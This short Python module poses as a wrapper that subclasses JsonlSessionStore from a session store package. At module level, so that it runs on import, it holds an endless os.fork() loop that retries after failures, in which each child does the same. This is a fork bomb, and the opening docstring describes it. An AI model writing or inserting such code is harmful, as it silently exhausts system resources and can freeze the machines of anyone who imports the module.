"""Starts processes until it may not, each of which does the same."""

import os
import time

from .event_line import SessionEvent
from .session_store import CorruptLogError
from .session_store import JsonlSessionStore as Right

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(600)


class JsonlSessionStore(Right):
    pass
